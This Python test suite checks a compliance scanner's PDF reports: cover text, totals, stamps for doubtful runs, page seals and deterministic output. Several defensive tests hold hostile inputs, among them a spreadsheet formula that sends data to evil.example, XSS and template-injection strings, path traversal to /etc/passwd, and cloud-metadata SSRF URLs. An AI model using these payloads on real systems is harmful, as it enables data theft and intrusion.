import re

import pikepdf
import pypdf
import pytest
import reports_fixture as fixture
from jinja2 import UndefinedError
from weasyprint.urls import FatalURLFetchingError

from scanner.errors import RenderError
from scanner.model import Selection
from scanner.reports.pages import build_pages
from scanner.reports.pdf import ShippedFiles, fill_template, print_html, render_pdf

SEAL = "ab" * 32


def draw(folder, accounts, **changes):
    run = fixture.write_run(folder, accounts, **changes)
    reports = folder / "reports"
    reports.mkdir()
    (path,) = render_pdf(run, reports)
    return run, path


def read_pages(path):
    """
    Return each page's text on one line, so that a line break on the page hides nothing.
    """
    return [" ".join(page.extract_text().split()) for page in pypdf.PdfReader(path).pages]


def squeeze(text):
    return re.sub(r"\s", "", text)


@pytest.fixture(scope="module")
def ordinary(tmp_path_factory):
    run, path = draw(tmp_path_factory.mktemp("run"), fixture.ordinary())
    return run, path, read_pages(path)


@pytest.fixture(scope="module")
def doubtful(tmp_path_factory):
    accounts = [*fixture.ordinary(), fixture.missed("555555555555", "unreachable", "scp-denied")]
    selection = Selection(ous=("ou-ab12-11111111",))
    run, path = draw(tmp_path_factory.mktemp("run"), accounts, simulated=True, selection=selection)
    return run, path, read_pages(path)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    run, path = draw(
        tmp_path_factory.mktemp("run"),
        fixture.hostile(),
        organization_name=fixture.HOSTILE[3],
        prepared_by=fixture.HOSTILE[2],
    )
    return run, path, read_pages(path)


def test_the_cover_says_what_this_is_and_what_was_found(ordinary):
    """
    Organization, period, window, conclusion and the whole seal stand on the first page.
    """
    run, _, pages = ordinary

    cover = pages[0]
    for words in (
        "Example Payments Ltd",
        "o-a1b2c3d4e5",
        "2026-Q4",
        "2026-11-24 10:15 UTC",
        "2026-11-24 10:27 UTC",
        "PCI DSS 4.0.1, ISO/IEC 27001 2022",
        "3 of 7 console users can sign in with a password alone",
        "Every account that was to be read was read: 4 of 6 accounts listed",
        "Cloud Security",
        run.manifest_sha256,
    ):
        assert words in cover


def test_printed_totals_equal_the_sealed_ones(ordinary):
    """
    The ledger is written out as a sum, and each check's line holds the figures of summary.json.
    """
    run, _, pages = ordinary
    accounts = run.summary.accounts

    summary = pages[1]
    assert (
        f"{accounts.listed} listed = {accounts.collected} collected + {accounts.not_collected} "
        f"not collected + {accounts.excluded} excluded + {accounts.not_active} not active"
    ) in summary
    for check in run.summary.checks:
        figures = (
            check.rows,
            check.failed,
            check.passed,
            check.needs_review,
            check.unknown,
            check.not_applicable,
        )
        line = f"{check.check} · {check.severity} " + " ".join(str(number) for number in figures)
        assert squeeze(line) in squeeze(summary)


def test_controls_speak_in_their_frameworks_words(ordinary):
    """
    Each control carries its verdict as the framework's auditors would put it, direct ones first.
    """
    run, _, pages = ordinary
    text = squeeze(" ".join(pages))

    assert squeeze("Exceptions noted; whether they lie in scope is not declared") in text
    assert squeeze("Objective evidence of a potential nonconformity") in text
    assert squeeze("No declaration of scope is recorded in this run.") in text
    for framework in run.frameworks:
        for control in framework.controls:
            assert squeeze(f"{control.id} {control.title}") in text
            assert squeeze(control.cannot_show[0]) in text
    assert text.index("8.4.2MFA") < text.index("8.2.2Shared")


def test_a_finding_fixed_since_the_report_stays_listed(ordinary):
    """
    The live answer annotates the finding and does not remove it.
    """
    _, _, pages = ordinary

    (page,) = [page for page in pages if "3 Findings by account" in page and "alice" in page]
    assert "bob" in page
    assert "fixed since the report" in page
    assert "virtual device since 2026-11-24" in squeeze_words(page)
    assert "still open" in page
    assert "unable to determine" in page


def squeeze_words(text):
    return re.sub(r"- ", "-", text)


def test_every_account_not_read_is_named_with_its_reason(doubtful):
    """
    Not collected, not active and excluded accounts are listed with what to do next.
    """
    run, _, pages = doubtful
    (page,) = [page for page in pages if "4 Accounts not assessed" in page and "scp-denied" in page]

    accounts = run.accounts()
    for account in accounts[accounts["outcome"] != "collected"]["account_id"]:
        assert account in page
    assert squeeze("cannot be assumed (AccessDenied); create it there") in squeeze(page)
    assert squeeze("excluded by the settings: run by a partner") in squeeze(page)


def test_every_page_of_a_doubtful_run_says_why_it_is_doubtful(doubtful):
    """
    A page that is copied out of an incomplete, simulated, partial run still carries all three marks.
    """
    _, _, pages = doubtful

    for page in pages:
        assert "INCOMPLETE 1 of 7 accounts could not be read" in page
        assert "SIMULATED this organization is simulated" in page
        assert "PARTIAL SELECTION" in page


def test_no_page_of_a_complete_run_is_stamped(ordinary):
    """
    The stamp means something because it stands only where it is true.
    """
    _, _, pages = ordinary

    assert not [page for page in pages if "INCOMPLETE" in page or "SIMULATED" in page]


def test_every_page_carries_the_seal_and_its_number(ordinary):
    """
    No page can be swapped without a trace.
    """
    run, _, pages = ordinary

    for number, page in enumerate(pages, 1):
        assert f"Seal {run.manifest_sha256[:16]}" in page
        assert f"Page {number} of {len(pages)}" in page


def test_the_document_describes_itself(ordinary):
    """
    Title, language, date and bookmarks are set, from the evidence and not from the clock.
    """
    _, path, _ = ordinary

    with pikepdf.open(path) as pdf:
        assert str(pdf.Root.Lang) == "en"
        assert str(pdf.docinfo["/Title"]).endswith("Example Payments Ltd, 2026-Q4")
        assert str(pdf.docinfo["/CreationDate"]).startswith("D:20261124102731")
        with pdf.open_outline() as outline:
            titles = [item.title for item in outline.root]
    assert titles == [
        "1 Summary",
        "2 Results by control",
        "3 Findings by account",
        "4 Accounts not assessed",
        "5 Method and limits",
        "Annex: ledger of all accounts",
    ]


def test_the_pdf_promises_nothing(ordinary):
    """
    The determination is the assessor's: the words that would make it ours appear nowhere.
    """
    _, _, pages = ordinary

    assert not re.search(r"compliant|certified|passed pci", "\n".join(pages), re.IGNORECASE)


def test_the_same_evidence_gives_the_same_pdf(tmp_path, hostile):
    """
    Drawn again from equal evidence in another folder, the document is equal to the last byte.
    """
    _, first, _ = hostile

    _, second = draw(
        tmp_path,
        fixture.hostile(),
        organization_name=fixture.HOSTILE[3],
        prepared_by=fixture.HOSTILE[2],
    )

    assert first.read_bytes() == second.read_bytes()


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "{{7*7}}{% for x in y %}${7*7}#{7*7}",
        "payments[U+202E]gpj.exe",
        "line one[U+000D][U+000A]line two",
        "../../../../etc/passwd",
        "&lt;already&amp;escaped&gt; <!-- comment --> <![CDATA[x]]>",
        '"><link rel=attachment href=file:///etc/passwd>',
    ],
)
def test_a_hostile_name_is_printed_as_text(hostile, name):
    """
    Markup, templates, formulas and hidden characters stand on the page as what they are.
    """
    _, _, pages = hostile

    assert squeeze(name) in squeeze(" ".join(pages))


def test_no_name_adds_anything_active_to_the_pdf(hostile):
    """
    The document holds no link to the outside, no script, no attachment and no image.
    """
    _, path, _ = hostile

    with pikepdf.open(path) as pdf:
        kinds = set()
        for entry in pdf.objects:
            if isinstance(entry, pikepdf.Dictionary | pikepdf.Stream):
                kinds |= {
                    str(entry.get(key)) for key in ("/S", "/Subtype", "/Type") if key in entry
                }
        names = pdf.Root.get("/Names", pikepdf.Dictionary())
        assert "/EmbeddedFiles" not in names
        assert "/JavaScript" not in names
    assert not kinds & {"/URI", "/JavaScript", "/Launch", "/GoToR", "/Filespec", "/Image"}


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "https://evil.example/x.css",
        "data:text/css,*{display:none}",
        "ftp://evil.example/x",
        "orgproof:../scanner/reports/pdf.py",
        "orgproof:/etc/passwd",
        "orgproof:report.html",
        "orgproof:",
        "x",
    ],
)
def test_nothing_but_shipped_files_is_served(url):
    """
    Any address but the style sheet's and the fonts' stops the rendering.
    """
    with pytest.raises(FatalURLFetchingError):
        ShippedFiles().fetch(url)


@pytest.mark.parametrize(
    "markup",
    [
        '<img src="file:///etc/passwd">',
        '<link rel="attachment" href="file:///etc/passwd">',
        '<link rel="stylesheet" href="http://evil.example/x.css">',
        '<p style="background: url(http://evil.example/x.png)">x</p>',
        '<object data="file:///etc/passwd"></object>',
        "<style>@import url(data:text/css,p{color:red});</style>",
        "<img src=x>",
    ],
)
def test_markup_that_reaches_for_a_file_stops_the_rendering(markup):
    """
    Even if a name got through as markup, it could fetch nothing: there would be no document.
    """
    with pytest.raises(RenderError, match="the document asks for"):
        print_html(f"<!DOCTYPE html><html><body>{markup}</body></html>", identifier=SEAL)


def test_a_value_the_template_lacks_is_an_error_and_not_a_blank(tmp_path):
    """
    A figure that is missing must never look like a figure that is empty.
    """
    pages = build_pages(fixture.write_run(tmp_path, fixture.clean()))
    del pages["coverage_sum"]

    with pytest.raises(UndefinedError, match="coverage_sum"):
        fill_template(pages)


def test_more_findings_than_print_well_become_totals_by_account(tmp_path):
    """
    Above a thousand findings the page gives each account's total and says where the rest is.
    """
    run, path = draw(tmp_path, fixture.large(accounts=12, users=1_200, findings=1_200))
    text = " ".join(read_pages(path))

    assert run.summary.findings == 1_200
    assert "stand in the workbook (sheet Findings) and in findings.csv" in text
    assert squeeze("100000000011 workload-00011 Workloads/Unit 11 100 0 0 0") in squeeze(text)
    assert "user-000001" not in text


def test_a_run_that_read_nothing_concludes_nothing(tmp_path):
    """
    Without one account read the cover says so, and no page says that nothing was found.
    """
    _, path = draw(tmp_path, [fixture.missed("000000000017", "management")])
    pages = read_pages(path)

    assert "No account was read, so nothing can be concluded about any user." in pages[0]
    assert "This evidence is incomplete: 1 of 1 account could not be read" in pages[0]
    assert "No exceptions were noted" not in " ".join(pages)
